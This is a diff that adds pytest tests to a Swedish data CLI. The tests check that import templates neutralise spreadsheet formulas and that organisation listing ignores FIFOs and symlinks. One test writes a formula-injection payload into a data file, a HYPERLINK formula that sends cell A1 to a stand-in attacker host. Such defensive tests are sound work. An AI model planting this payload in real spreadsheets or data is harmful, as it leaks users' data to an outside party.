@@ -1382,3 +1382,38 @@ def test_an_export_to_standard_output_cannot_forge_a_workflow_command(tree: Path
         result = run_cli("export", "--data", tree, "--format", output_format, "--as-of", AS_OF)
         assert "Falskt" in result.stdout, result.output
         assert not [line for line in result.stdout.splitlines() if _runs_a_workflow_command(line)]
+
+
+def test_the_import_template_writes_titles_as_text_never_as_formulas(
+    tree: Path, tmp_path: Path
+) -> None:
+    path = tree / PROMISE
+    text = path.read_text(encoding="utf-8").replace(
+        "title: Otrygga platser", 'title: \'=HYPERLINK("http://ond.example/?"&A1,"Klicka")\''
+    )
+    path.write_text(text, encoding="utf-8")
+    sheet = tmp_path / "mall.csv"
+    assert (
+        run_cli("import", "--template", "centrum-2022", "--data", tree, "-o", sheet).exit_code == 0
+    )
+    assert ";=HYPERLINK" not in sheet.read_text(encoding="utf-8-sig")
+    book = tmp_path / "mall.xlsx"
+    assert (
+        run_cli("import", "--template", "centrum-2022", "--data", tree, "-o", book).exit_code == 0
+    )
+    import zipfile
+
+    with zipfile.ZipFile(book) as archive:
+        xml = "".join(archive.read(name).decode() for name in archive.namelist() if "sheet" in name)
+    assert "<f>HYPERLINK" not in xml and "HYPERLINK" in xml
+
+
+def test_completion_does_not_wait_on_a_fifo_or_follow_a_link(tree: Path) -> None:
+    os.mkfifo(tree / "organisations" / "fifo.yaml")
+    (tree / "organisations" / "lank.yaml").symlink_to("/dev/stdin")
+    from samverkan_cli import api
+
+    started = time.monotonic()
+    found = api.organisation_ids(tree, "kommun")
+    assert time.monotonic() - started < 5
+    assert "teststad" in found and "fifo" not in found and "lank" not in found
